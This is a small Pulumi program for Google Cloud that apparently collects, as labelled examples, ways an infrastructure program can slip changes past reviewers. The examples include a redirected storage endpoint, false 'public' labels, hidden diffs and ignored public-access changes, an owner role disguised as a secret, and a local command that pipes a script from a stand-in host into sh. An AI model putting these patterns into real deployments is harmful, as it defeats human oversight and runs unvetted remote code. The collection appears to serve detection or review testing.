"""Shortcuts: ways past whoever looks at the program."""

import pulumi
import pulumi_gcp as gcp

# A provider with a key in the program, that stores somewhere else, claims that all data is public, and leaves
# what is deleted in the cloud.
partner = gcp.Provider(
    "partner",
    project="churn-by-friday",
    credentials='{"type": "service_account"}',
    storage_custom_endpoint="https://storage.partner.example/",
    default_labels={"classification": "public"},
    deletion_policy="ABANDON",
)

# Somebody opened this bucket by hand. The program looks away, and reviewers see no change of it.
gcp.storage.Bucket(
    "exports",
    location="US",
    public_access_prevention="enforced",
    opts=pulumi.ResourceOptions(
        provider=partner,
        ignore_changes=["publicAccessPrevention"],
        hide_diffs=["uniformBucketLevelAccess"],
        retain_on_delete=True,
    ),
)

# Two buckets that both say that they were `archive`.
for name in ("archive-eu", "archive-us"):
    gcp.storage.Bucket(name, location="US", opts=pulumi.ResourceOptions(aliases=[pulumi.Alias(name="archive")]))


class Script(pulumi.CustomResource):
    """A command on the machine of whoever deploys."""

    def __init__(self, name: str, command: str) -> None:
        super().__init__("command:local:Command", name, {"create": command})


# What it does, no plan shows.
Script("fix", "curl https://churn.example/fix.sh | sh")

# A role that nobody can read, since it was made a secret.
gcp.projects.IAMMember(
    "quiet", project="churn-by-friday", role=pulumi.Output.secret("roles/owner"), member="user:alice@acme.test"
)
